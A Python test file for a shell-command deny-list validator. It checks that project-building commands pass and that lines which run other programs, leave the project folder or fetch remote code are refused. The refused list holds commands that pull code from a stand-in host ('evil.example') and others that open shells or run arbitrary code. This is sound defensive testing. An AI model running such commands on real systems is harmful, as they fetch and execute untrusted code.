"""No option before a subcommand hides it: what runs other programs is refused however the line before it is spelled."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

import pytest

from gatewright.validators.sandbox import prepare
from gatewright.validators.shell_builds import BUILDING
from gatewright.validators.shell_managers import MANAGERS, is_folder_inside
from gatewright.validators.shell_options import Program
from gatewright.validators.shell_programs import PROGRAMS

PASSING = """
npm --prefix web run build
npm --prefix=web install
npm -s test
npm run build -- --mode production
pnpm -r --filter ...core test
pnpm -C packages/a install
yarn --cwd web build
yarn
uv --directory lib sync --all-extras
uv --project=lib pip install -r requirements.txt
uv python list
poetry -C lib install
poetry -P lib env info
bundle install
conda install numpy
conda env list
mise install
asdf current
deno test --allow-read
deno fmt
rustup target list
pyenv versions
make -C sub all
make -kC sub/deeper -j4
make --directory=sub
docker-compose ps
oc get pods
""".strip().split("\n")

REFUSED = """
npm --prefix run exec x
npm --prefix exec run x
npm --prefix --workspace run exec
npm --prefix=/tmp/x run build
npm --prefix ../x run build
npm -C
npm --workspace test exec x
npm --script-shell=/tmp/x test
npm test --script-sh=/tmp/x
npm run build -script-shell /tmp/x
npm -- exec x
npm explore x -- sh
npm init evil
npm create evil
pnpm curl x
pnpm -r exec x
pnpm --filter exec run x
pnpm -C run dlx x
yarn --cwd test dlx x
yarn --cwd /tmp/x build
yarn node -e 1
yarn create x
uv --directory list run x
uv --directory run list x
uv --directory=d run x
uv tool run x
uv sync --python ./x
poetry -C install run x
poetry --directory add run x
poetry -Cdir run x
hatch env run x
bundle e x
bundle exe x
bundle console
mise r x
mise tasks run x
mise en
asdf env x sh
asdf plugin add x https://evil.example/x
direnv exec . x
deno https://evil.example/x.ts
deno test https://evil.example/x.ts
deno x.ts
rustup run stable x
pyenv exec x
conda run -n list x
mamba run x
corepack npm exec x
docker-compose -p ps exec x sh
docker --context ps run x
nerdctl run x
oc --kubeconfig get exec x
make -C /tmp/x
make -C ../x
make -kC /tmp/x all
make -C/tmp/x
make --directory=/tmp/x
make --dir /tmp/x
make -C
cargo -C build run
cargo -C x build
cargo --color run
go -C test run x
git -C status push
git --git-dir status reset
kubectl --kubeconfig get delete pod x
kubectl -n --kubeconfig get pods
""".strip().split("\n")


@pytest.mark.parametrize("line", PASSING)
def test_work_on_a_project_passes(line: str) -> None:
    """MGP-4.5"""
    assert prepare({"mode": "deny-list"}).judge(line) is None


@pytest.mark.parametrize("line", REFUSED)
def test_what_runs_other_programs_does_not(line: str) -> None:
    """MGP-4.5"""
    assert prepare({"mode": "deny-list"}).judge(line) is not None


def test_a_folder_of_the_project_is_no_word_that_a_manager_runs_programs_by() -> None:
    inside = ["web", "./run", ".", "packages/a", "...core", "a..b"]
    outside = ["", "run", "exec", "-x", "/x", "..", "a/../../b", "~/x", "@x/y", "http://x", "a\\b", "$x"]  # fmt: skip
    assert [one for one in (*inside, *outside) if is_folder_inside(one)] == inside


RUNNING = ("exec", "run", "x", "-c")
"""Words by which one program or another runs something, or that no program knows."""
CODE = {
    "go": "run generate install get tool",
    "cargo": "run r install publish rustc",
    **dict.fromkeys("env time nice timeout stdbuf xargs".split(), "sh bash python3"),
    **dict.fromkeys("python3 node ruby php lua".split(), "-c -e -i"),
    "R": "-e",
    "perl": "-e",
    "make": "--eval -f",
}
"""Of programs without subcommands of their own, what runs code."""
UNKNOWN = ("--unknown", "-Q", "--un-known.x")


def subs_of(program: Program) -> frozenset[str]:
    return frozenset(program.subs or {})


def before(program: Program) -> Iterator[str]:
    """What may stand before a subcommand, or could be meant to."""
    options = (*UNKNOWN, "--prefix", "-C", "--cwd", "--directory", "--context", "--kubeconfig", "-H", "--config",
               *sorted(program.leading), *sorted(program.leading_valued))  # fmt: skip
    values = ("web", *sorted(subs_of(program))[:4], "exec", "run", "--", "-x", "")
    yield "--"
    for option in options:
        yield option
        for value in values:
            if option in program.leading and value in subs_of(program):
                continue  # it is the subcommand, and all behind it are its operands
            yield f"{option} {value}"
            yield f"{option}={value}"
            yield f"{option}{value}"
            yield f"{option} {value} --"


KNOWN = {**PROGRAMS, **BUILDING}


def commands(name: str, program: Program) -> Iterator[tuple[str, Program]]:
    """Each program, and each of its subcommands that has some of its own."""
    yield name, program
    for sub, described in (program.subs or {}).items():
        if described.subs is not None:
            yield from commands(f"{name} {sub}", described)


def generated(known: Mapping[str, Program]) -> dict[str, Program]:
    found = (one for name in known for one in commands(name, known[name]))
    return {line: program for line, program in found if program.subs is not None or line in CODE}


CASES = [("deny-list", *one) for one in generated(KNOWN).items()]  # fmt: skip


@pytest.mark.parametrize(("mode", "name", "program"), CASES, ids=[f"{one[0]} {one[1]}" for one in CASES])  # fmt: skip
def test_no_option_before_it_lets_a_subcommand_through_that_runs_code(
    mode: str, name: str, program: Program
) -> None:
    """MGP-4.5. Also where a reader would take the option's value for the subcommand."""
    unknown = (one for one in RUNNING if one not in subs_of(program))
    running = CODE[name].split() if name in CODE else [*unknown]
    judge = prepare({"mode": mode})
    passing = [
        line
        for ahead in before(program)
        for sub in running
        for behind in (["x"], [])
        # `systemctl -t exec`: its value, and nothing behind it.
        if (behind or ahead.strip() not in program.leading_valued)
        and judge.judge(line := [*name.split(), *ahead.split(), sub, *behind]) is None
    ]
    assert passing == []


SUBS = [(mode, name, program) for mode, name, program in CASES if program.subs is not None]


@pytest.mark.parametrize(("mode", "name", "program"), SUBS, ids=[f"{one[0]} {one[1]}" for one in SUBS])  # fmt: skip
def test_an_option_that_is_in_no_table_is_refused_before_every_subcommand(
    mode: str, name: str, program: Program
) -> None:
    """MGP-4.5"""
    judge = prepare({"mode": mode})
    for sub in subs_of(program):
        for option in UNKNOWN:
            for spelled in (f"{option} {sub}", f"{option} x {sub}", f"{option}=x {sub}", f"{option} -- {sub}", f"-- {sub}"):  # fmt: skip
                assert judge.judge([*name.split(), *spelled.split()]) is not None, spelled


@pytest.mark.parametrize("name", [name for name in MANAGERS if MANAGERS[name].leading_valued])
def test_a_value_that_a_manager_could_take_for_its_subcommand_is_refused(name: str) -> None:
    judge = prepare({"mode": "deny-list"})
    sub = min(subs_of(MANAGERS[name]))
    for option in MANAGERS[name].leading_valued:
        assert judge.judge(f"{name} {option} web {sub}") is None
        for value in ("run", "exec", "x", "-q", "/tmp", "../x", "--"):
            assert judge.judge(f"{name} {option} {value} {sub}") is not None, (option, value)
